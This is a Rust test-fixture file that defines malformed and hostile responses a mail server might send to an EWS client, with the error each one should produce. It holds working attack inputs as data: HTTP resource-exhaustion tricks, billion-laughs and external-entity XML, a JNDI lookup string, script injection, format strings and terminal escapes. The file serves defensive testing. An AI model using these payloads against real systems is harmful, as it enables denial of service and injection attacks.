//! What a hostile mail server may answer, and the causes that may come of it.

use std::time::Duration;

use super::stage::Trick;

/// Success in EWS, with this in front of the body.
pub fn success(head: &str) -> String {
    format!(
        "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\">{head}<s:Body>\
         <m:GetServerTimeZonesResponse xmlns:m=\"http://schemas.microsoft.com/exchange/services/2006/messages\">\
         <m:ResponseMessages><m:GetServerTimeZonesResponseMessage ResponseClass=\"Success\"><m:ResponseCode>NoError\
         </m:ResponseCode></m:GetServerTimeZonesResponseMessage></m:ResponseMessages>\
         </m:GetServerTimeZonesResponse></s:Body></s:Envelope>"
    )
}

/// A fault.
pub fn fault(code: &str, words: &str) -> String {
    format!(
        "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><s:Fault><faultcode>a:{code}\
         </faultcode><faultstring>{words}</faultstring></s:Fault></s:Body></s:Envelope>"
    )
}

/// What it is, what is done, and the causes that may come of it.
pub type Case = (&'static str, Trick, &'static [&'static str]);

fn head(lines: &str) -> Vec<u8> {
    format!("HTTP/1.1 200 OK\r\n{lines}\r\n").into_bytes()
}

/// What breaks the transport: told in the same words before the password and after.
pub fn broken() -> Vec<Case> {
    const ODD: &[&str] = &["http_odd"];
    const LARGE: &[&str] = &["http_body_too_large"];
    const SHORT: &[&str] = &["http_truncated"];
    const LATE: &[&str] = &["http_timeout"];
    let hints = |many: usize| "HTTP/1.1 103 Early Hints\r\nlink: </x>\r\n\r\n".repeat(many).into_bytes();
    let go_on = "HTTP/1.1 100 Continue\r\n\r\n".repeat(50).into_bytes();
    let chunked = "transfer-encoding: chunked\r\n";
    let chunk = [b"400\r\n".as_slice(), &[b'x'; 0x400], b"\r\n"].concat();
    let packed = |how: &str| Trick::say(200, &format!("content-encoding: {how}\r\n"), [0x1f; 2048]);
    vec![
        ("45 hints for ever", Trick::Endless(Vec::new(), hints(1)), &["http_odd", "http_body_too_large"]),
        ("45 continue for ever", Trick::Endless(Vec::new(), go_on), ODD),
        ("46 a header of a megabyte", Trick::End(head(&format!("x: {}\r\n", "y".repeat(1 << 20)))), LARGE),
        ("46 ten thousand headers", Trick::End(head(&"x: y\r\n".repeat(10_000))), LARGE),
        ("46 no colon", Trick::End(head("broken\r\n")), ODD),
        ("46 a folded header", Trick::End(head("x: y\r\n z\r\n")), ODD),
        ("47 ten gigabytes promised", Trick::Silence(head("content-length: 10737418240\r\n")), LARGE),
        ("47 chunks for ever", Trick::Endless(head(chunked), chunk), LARGE),
        ("47 a body for ever", Trick::Endless(head(""), vec![b'x'; 4096]), LARGE),
        (
            "47 a chunk of 2^64",
            Trick::End([head(chunked), b"FFFFFFFFFFFFFFFFF\r\nx".to_vec()].concat()),
            &["http_truncated", "http_odd"],
        ),
        ("47 too long a length", Trick::End([head("content-length: 9\r\n"), b"ok".to_vec()].concat()), SHORT),
        ("47 two lengths", Trick::End(head("content-length: 2\r\ncontent-length: 3\r\n")), ODD),
        ("48 gzip", packed("gzip"), ODD),
        ("48 deflate", packed("deflate"), ODD),
        ("48 br", packed("br"), ODD),
        ("48 zstd", packed("zstd"), ODD),
        ("49 a byte a second", Trick::Drip(head("content-length: 2\r\n"), Duration::from_secs(1)), LATE),
        ("50 silence after the request", Trick::Silence(Vec::new()), LATE),
        (
            "50 silence in the body",
            Trick::Silence([head("content-length: 9\r\n"), b"ok".to_vec()].concat()),
            LATE,
        ),
        ("52 the end after the request", Trick::End(Vec::new()), SHORT),
        ("61 a server with colours", Trick::End(head("server: \x1b[31mred\r\n")), ODD),
    ]
}

/// Good HTTP with something odd inside, as an answer to the password.
pub fn odd() -> Vec<Case> {
    const UNKNOWN: &[&str] = &["unknown_response"];
    const LARGE: &[&str] = &["http_body_too_large"];
    let xml = |body: String| Trick::say(200, "content-type: text/xml; charset=utf-8\r\n", body);
    let wide = |mark: [u8; 2], unit: fn(u16) -> [u8; 2]| {
        let units = success("").encode_utf16().flat_map(unit).collect::<Vec<u8>>();
        Trick::say(200, "content-type: text/xml\r\n", [mark.to_vec(), units].concat())
    };
    let laughs = (1..10).fold("<!ENTITY a0 \"ha\">".to_owned(), |text, n| {
        format!("{text}<!ENTITY a{n} \"{}\">", format!("&a{};", n - 1).repeat(10))
    });
    let refresh = "<html><head><meta http-equiv=\"refresh\" content=\"0; url=http://owa.quayside.example/\"></head></html>";
    let twice = success("").replace("</s:Body>", "</s:Body><s:Body/>");
    let codes =
        success("").replace("</m:ResponseCode>", "</m:ResponseCode><m:ResponseCode>ErrorX</m:ResponseCode>");
    let floods = (0..100_000).map(|n| format!("k{n}='v' ")).collect::<String>();
    vec![
        (
            "42 refresh",
            Trick::say(
                200,
                "content-type: text/html\r\nrefresh: 0; url=http://owa.quayside.example/\r\n",
                refresh,
            ),
            &["not_soap"],
        ),
        (
            "53 another charset",
            Trick::say(200, "content-type: text/xml; charset=utf-7\r\n", "+ADw-a/+AD4-"),
            UNKNOWN,
        ),
        (
            "53 no text",
            Trick::say(200, "content-type: text/xml\r\n", [0xff, 0xfe, 0xfd, 0x00, 0xd8]),
            UNKNOWN,
        ),
        ("53 UTF-16", wide([0xff, 0xfe], u16::to_le_bytes), UNKNOWN),
        ("53 UTF-16 the other way", wide([0xfe, 0xff], u16::to_be_bytes), UNKNOWN),
        ("53 a mark in front", xml(format!("\u{feff}{}", success(""))), UNKNOWN),
        ("54 billion laughs", xml(format!("<!DOCTYPE a [{laughs}]><a>&a9;</a>")), UNKNOWN),
        (
            "54 an outside entity",
            xml("<!DOCTYPE a [<!ENTITY x SYSTEM \"http://owa.quayside.example/x\">]><a>&x;</a>".to_owned()),
            UNKNOWN,
        ),
        (
            "54 a parameter entity",
            xml("<!DOCTYPE a [<!ENTITY % x SYSTEM \"https://owa.quayside.example/x\"> %x;]><a/>".to_owned()),
            UNKNOWN,
        ),
        ("55 depth", xml("<a>".repeat(600_000)), LARGE),
        ("55 attributes", xml(format!("<a {floods}/>")), LARGE),
        ("55 elements", xml(format!("<a>{}</a>", "<b/>".repeat(400_000))), LARGE),
        ("55 a long id", xml(format!("<a k='{}'/>", "v".repeat(1 << 20))), LARGE),
        ("55 a long text", xml(format!("<a>{}", "x".repeat(3 << 20))), LARGE),
        ("56 a fault and 200", xml(fault("ErrorInternalServerError", "No.")), &["server_error"]),
        ("56 success and 500", Trick::say(500, "content-type: text/xml\r\n", success("")), UNKNOWN),
        (
            "56 another namespace",
            xml(success("").replace("schemas.xmlsoap.org", "evil.example")),
            &["not_soap"],
        ),
        ("56 two bodies", xml(twice), UNKNOWN),
        ("56 two codes", xml(codes), &["unknown_response", "ews_other_error"]),
        (
            "61 what a server calls itself",
            Trick::say(
                200,
                "x-feserver: <script>alert(1)</script>%s%n{{7*7}}\r\nrequest-id: ${jndi:ldap://x}\r\n",
                success(
                    "<s:Header><h:ServerVersionInfo MajorVersion=\"&lt;b&gt;\" MinorVersion=\"%n\"/></s:Header>",
                ),
            ),
            UNKNOWN,
        ),
        (
            "61 what a server says",
            xml(fault("ErrorNeverSeen", "&#27;[2J&lt;b&gt;%s%n&#x202e;")),
            &["ews_other_error"],
        ),
    ]
}
